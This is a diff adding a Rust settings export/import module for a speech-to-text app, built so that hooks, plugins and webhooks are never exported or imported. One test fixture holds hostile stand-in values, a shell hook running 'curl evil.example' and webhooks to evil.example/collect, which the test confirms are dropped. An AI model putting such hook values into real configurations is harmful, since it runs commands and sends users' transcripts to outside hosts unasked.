@@ -0,0 +1,408 @@
+//! Export of the whole configuration (prompt profiles, dictionary, hotkeys, provider
+//! selections, ...) to a single JSON or TOML file, and import of such a file on another
+//! machine. Keeping the file in a synced folder is enough to share settings.
+//!
+//! Machine-specific keys (microphone, noise calibration, encryption) are never exported.
+//! Secrets (`*_api_key`, tokens, passwords) are only exported when asked for. How imported
+//! values combine with the local ones is set by `ImportConflict`.
+//!
+//! Settings that run programs or send transcripts elsewhere (output hook, provider
+//! plugins, webhooks) are neither exported nor imported: a shared or downloaded file must
+//! not be able to set them, so they are configured on each machine.
+
+use crate::app_settings::{self, SETTINGS_VERSION_KEY};
+use crate::commands::debug_bundle::is_secret_key;
+use chrono::{DateTime, Utc};
+use serde::{Deserialize, Serialize};
+use serde_json::{Map, Value};
+use std::path::Path;
+
+/// Version of the file layout (not of the settings inside it).
+const FORMAT_VERSION: u32 = 1;
+
+/// Settings that only make sense on the machine they were made on.
+const MACHINE_KEYS: &[&str] = &[
+    SETTINGS_VERSION_KEY,
+    "selected_mic_id",
+    "noise_profiles",
+    "encrypt_at_rest",
+    "ipc_output_path",
+    "settings_guide_state",
+];
+
+/// Settings that run a program or send transcripts to a URL.
+const EXTERNAL_ACTION_KEYS: &[&str] = &["output_hook", "provider_plugins", "output_webhook"];
+
+/// Fields of nested entries (per-program profiles) that send transcripts to a URL.
+const EXTERNAL_ACTION_FIELDS: &[&str] = &["webhook_url"];
+
+/// File layout; `.toml` files are TOML, anything else JSON.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum FileFormat {
+    Json,
+    Toml,
+}
+
+impl FileFormat {
+    pub fn from_path(path: &Path) -> Self {
+        match path.extension().and_then(|ext| ext.to_str()) {
+            Some(ext) if ext.eq_ignore_ascii_case("toml") => FileFormat::Toml,
+            _ => FileFormat::Json,
+        }
+    }
+}
+
+/// Contents of an exported configuration file.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ConfigFile {
+    pub format_version: u32,
+    /// `settings_version` of the exporting app, so older files can be migrated.
+    pub settings_version: u32,
+    pub exported_at: DateTime<Utc>,
+    pub includes_secrets: bool,
+    pub settings: Map<String, Value>,
+}
+
+/// How imported values combine with the ones already set on this machine.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ImportConflict {
+    /// Imported values replace local ones.
+    #[default]
+    Overwrite,
+    /// Local values win; only keys not set here are imported.
+    KeepLocal,
+    /// Lists (prompt profiles, phrases, corrections, ...) are combined: entries with the
+    /// same `id`, or equal entries, are taken from the file and local-only entries are
+    /// kept. Other values are overwritten.
+    Merge,
+}
+
+/// What an import changed.
+#[derive(Debug, Clone, Default, PartialEq, Serialize)]
+pub struct ImportSummary {
+    /// Keys set from the file.
+    pub imported: Vec<String>,
+    /// Keys left as they were (same value, or kept with `KeepLocal`).
+    pub unchanged: Vec<String>,
+    /// Hooks, plugins and webhooks in the file that were not imported (`key` or
+    /// `key.field` for entries of a list).
+    pub skipped: Vec<String>,
+}
+
+/// `null`s mean "unset" in settings and TOML has no null, so they are left out.
+fn strip_nulls(value: &mut Value) {
+    match value {
+        Value::Object(map) => {
+            map.retain(|_, v| !v.is_null());
+            map.values_mut().for_each(strip_nulls);
+        }
+        Value::Array(items) => {
+            items.retain(|v| !v.is_null());
+            items.iter_mut().for_each(strip_nulls);
+        }
+        _ => {}
+    }
+}
+
+/// Remove object fields (at any depth) whose key matches `drop`; returns whether any was.
+fn strip_fields(value: &mut Value, drop: &dyn Fn(&str) -> bool) -> bool {
+    match value {
+        Value::Object(map) => {
+            let before = map.len();
+            map.retain(|k, _| !drop(k));
+            let mut stripped = map.len() != before;
+            for v in map.values_mut() {
+                stripped |= strip_fields(v, drop);
+            }
+            stripped
+        }
+        Value::Array(items) => items
+            .iter_mut()
+            .fold(false, |stripped, v| strip_fields(v, drop) | stripped),
+        _ => false,
+    }
+}
+
+fn is_external_action_field(key: &str) -> bool {
+    EXTERNAL_ACTION_FIELDS.contains(&key)
+}
+
+/// Copy the external-action fields of `local` list entries into the entries of `value`
+/// with the same `id`, so replacing a profile from a file keeps this machine's webhook.
+fn keep_local_external_fields(value: &mut Value, local: Option<&Value>) {
+    let (Value::Array(entries), Some(Value::Array(local))) = (value, local) else {
+        return;
+    };
+    for entry in entries.iter_mut() {
+        let Some(id) = entry.get("id").cloned() else {
+            continue;
+        };
+        let Some(Value::Object(local_entry)) = local.iter().find(|l| l.get("id") == Some(&id))
+        else {
+            continue;
+        };
+        let Value::Object(entry) = entry else {
+            continue;
+        };
+        for field in EXTERNAL_ACTION_FIELDS {
+            if let Some(v) = local_entry.get(*field) {
+                entry.insert(field.to_string(), v.clone());
+            }
+        }
+    }
+}
+
+impl ConfigFile {
+    /// Export the stored settings `values`.
+    pub fn export(values: Map<String, Value>, include_secrets: bool) -> Self {
+        let mut settings = Value::Object(
+            values
+                .into_iter()
+                .filter(|(key, _)| {
+                    !MACHINE_KEYS.contains(&key.as_str())
+                        && !EXTERNAL_ACTION_KEYS.contains(&key.as_str())
+                })
+                .collect(),
+        );
+        strip_nulls(&mut settings);
+        strip_fields(&mut settings, &is_external_action_field);
+        if !include_secrets {
+            strip_fields(&mut settings, &is_secret_key);
+        }
+        let Value::Object(settings) = settings else {
+            unreachable!("settings are an object");
+        };
+        Self {
+            format_version: FORMAT_VERSION,
+            settings_version: app_settings::CURRENT_SETTINGS_VERSION,
+            exported_at: Utc::now(),
+            includes_secrets: include_secrets,
+            settings,
+        }
+    }
+
+    pub fn to_text(&self, format: FileFormat) -> Result<String, String> {
+        match format {
+            FileFormat::Json => serde_json::to_string_pretty(self).map_err(|e| e.to_string()),
+            FileFormat::Toml => toml::to_string_pretty(self).map_err(|e| e.to_string()),
+        }
+    }
+
+    /// Parse a file, migrating settings exported by an older version.
+    pub fn parse(text: &str, format: FileFormat) -> Result<Self, String> {
+        let mut file: ConfigFile = match format {
+            FileFormat::Json => serde_json::from_str(text).map_err(|e| e.to_string())?,
+            FileFormat::Toml => toml::from_str(text).map_err(|e| e.to_string())?,
+        };
+        if file.format_version > FORMAT_VERSION
+            || file.settings_version > app_settings::CURRENT_SETTINGS_VERSION
+        {
+            return Err("The file was exported by a newer version of Tangerine".to_string());
+        }
+        file.settings.insert(
+            SETTINGS_VERSION_KEY.to_string(),
+            Value::from(file.settings_version),
+        );
+        app_settings::migrate(&mut file.settings);
+        for key in MACHINE_KEYS {
+            file.settings.remove(*key);
+        }
+        file.settings_version = app_settings::CURRENT_SETTINGS_VERSION;
+        Ok(file)
+    }
+
+    /// Settings to write for importing this file over `local` (a patch for
+    /// `AppSettings::apply_patch`). Hooks, plugins and webhooks in the file are skipped.
+    pub fn import_patch(
+        &self,
+        local: &Map<String, Value>,
+        conflict: ImportConflict,
+    ) -> (Map<String, Value>, ImportSummary) {
+        let mut patch = Map::new();
+        let mut summary = ImportSummary::default();
+        for (key, imported) in &self.settings {
+            if EXTERNAL_ACTION_KEYS.contains(&key.as_str()) {
+                summary.skipped.push(key.clone());
+                continue;
+            }
+            let mut imported = imported.clone();
+            if strip_fields(&mut imported, &is_external_action_field) {
+                summary
+                    .skipped
+                    .extend(EXTERNAL_ACTION_FIELDS.iter().map(|f| format!("{}.{}", key, f)));
+            }
+
+            let current = local.get(key).filter(|v| !v.is_null());
+            let mut value = match (conflict, current) {
+                (_, None) => Some(imported),
+                (ImportConflict::KeepLocal, Some(_)) => None,
+                (ImportConflict::Merge, Some(Value::Array(current))) => match imported {
+                    Value::Array(imported) => Some(Value::Array(merge_lists(current, &imported))),
+                    imported => Some(imported),
+                },
+                (_, Some(_)) => Some(imported),
+            };
+            if let Some(value) = value.as_mut() {
+                keep_local_external_fields(value, current);
+            }
+            match value {
+                Some(value) if current != Some(&value) => {
+                    patch.insert(key.clone(), value);
+                    summary.imported.push(key.clone());
+                }
+                _ => summary.unchanged.push(key.clone()),
+            }
+        }
+        (patch, summary)
+    }
+}
+
+/// Local entries followed by the imported ones; an imported entry replaces the local entry
+/// with the same `id` in place.
+fn merge_lists(local: &[Value], imported: &[Value]) -> Vec<Value> {
+    let id = |v: &Value| v.get("id").cloned();
+    let mut merged = local.to_vec();
+    for entry in imported {
+        let existing = merged
+            .iter()
+            .position(|m| m == entry || (id(entry).is_some() && id(m) == id(entry)));
+        match existing {
+            Some(index) => merged[index] = entry.clone(),
+            None => merged.push(entry.clone()),
+        }
+    }
+    merged
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn map(value: Value) -> Map<String, Value> {
+        match value {
+            Value::Object(map) => map,
+            _ => unreachable!(),
+        }
+    }
+
+    #[test]
+    fn test_export_skips_secrets_and_machine_keys_and_round_trips() {
+        let file = ConfigFile::export(
+            map(json!({
+                "stt_provider": "groq",
+                "groq_api_key": "gsk_live",
+                "selected_mic_id": "USB Mic",
+                "stt_transcription_prompt": null,
+                "output_webhook": { "url": "https://example.com/hook", "max_retries": 3 },
+                "output_hook": { "command": "notify-send", "args": [], "timeout_ms": 5000 },
+                "rewrite_program_prompt_profiles": [
+                    { "id": "a", "name": "Editor", "webhook_url": "https://example.com/a" },
+                ],
+                "toggle_hotkey": { "modifiers": ["ctrl", "alt"], "key": "Space" },
+            })),
+            false,
+        );
+        assert_eq!(
+            Value::Object(file.settings.clone()),
+            json!({
+                "stt_provider": "groq",
+                "rewrite_program_prompt_profiles": [{ "id": "a", "name": "Editor" }],
+                "toggle_hotkey": { "modifiers": ["ctrl", "alt"], "key": "Space" },
+            })
+        );
+
+        for format in [FileFormat::Json, FileFormat::Toml] {
+            let text = file.to_text(format).unwrap();
+            assert_eq!(ConfigFile::parse(&text, format).unwrap(), file);
+        }
+        assert_eq!(
+            FileFormat::from_path(Path::new("sync/tangerine.TOML")),
+            FileFormat::Toml
+        );
+    }
+
+    #[test]
+    fn test_import_conflict_modes() {
+        let mut file = ConfigFile::export(Map::new(), false);
+        file.settings = map(json!({
+            "stt_provider": "openai",
+            "sound_enabled": true,
+            "hallucination_filter_phrases": ["thanks for watching"],
+            "rewrite_program_prompt_profiles": [{ "id": "a", "name": "Imported A" }],
+        }));
+        let local = map(json!({
+            "stt_provider": "groq",
+            "sound_enabled": true,
+            "rewrite_program_prompt_profiles": [
+                { "id": "a", "name": "Local A" },
+                { "id": "b", "name": "Local B" },
+            ],
+        }));
+
+        let (patch, summary) = file.import_patch(&local, ImportConflict::KeepLocal);
+        assert_eq!(
+            Value::Object(patch),
+            json!({ "hallucination_filter_phrases": ["thanks for watching"] })
+        );
+        assert_eq!(summary.unchanged.len(), 3);
+
+        let (patch, _) = file.import_patch(&local, ImportConflict::Overwrite);
+        assert_eq!(patch["stt_provider"], "openai");
+        assert_eq!(
+            patch["rewrite_program_prompt_profiles"]
+                .as_array()
+                .unwrap()
+                .len(),
+            1
+        );
+
+        let (patch, summary) = file.import_patch(&local, ImportConflict::Merge);
+        assert_eq!(
+            patch["rewrite_program_prompt_profiles"],
+            json!([{ "id": "a", "name": "Imported A" }, { "id": "b", "name": "Local B" }])
+        );
+        assert_eq!(summary.unchanged, ["sound_enabled"]);
+    }
+
+    #[test]
+    fn test_import_drops_hooks_plugins_and_webhooks() {
+        let mut file = ConfigFile::export(Map::new(), false);
+        file.settings = map(json!({
+            "stt_provider": "openai",
+            "output_hook": { "command": "sh", "args": ["-c", "curl evil.example"] },
+            "provider_plugins": [{ "id": "x", "kind": "stt", "command": "/tmp/x" }],
+            "output_webhook": { "url": "https://evil.example/collect" },
+            "rewrite_program_prompt_profiles": [
+                { "id": "a", "name": "Imported A", "webhook_url": "https://evil.example/a" },
+                { "id": "c", "name": "Imported C", "webhook_url": "https://evil.example/c" },
+            ],
+        }));
+        let local = map(json!({
+            "rewrite_program_prompt_profiles": [
+                { "id": "a", "name": "Local A", "webhook_url": "https://mine.example/a" },
+            ],
+        }));
+
+        for conflict in [ImportConflict::Overwrite, ImportConflict::Merge] {
+            let (patch, summary) = file.import_patch(&local, conflict);
+            assert_eq!(patch["stt_provider"], "openai");
+            for key in ["output_hook", "provider_plugins", "output_webhook"] {
+                assert!(!patch.contains_key(key));
+                assert!(summary.skipped.iter().any(|k| k == key));
+            }
+            assert!(summary
+                .skipped
+                .iter()
+                .any(|k| k == "rewrite_program_prompt_profiles.webhook_url"));
+            assert_eq!(
+                patch["rewrite_program_prompt_profiles"],
+                json!([
+                    { "id": "a", "name": "Imported A", "webhook_url": "https://mine.example/a" },
+                    { "id": "c", "name": "Imported C" },
+                ])
+            );
+        }
+    }
+}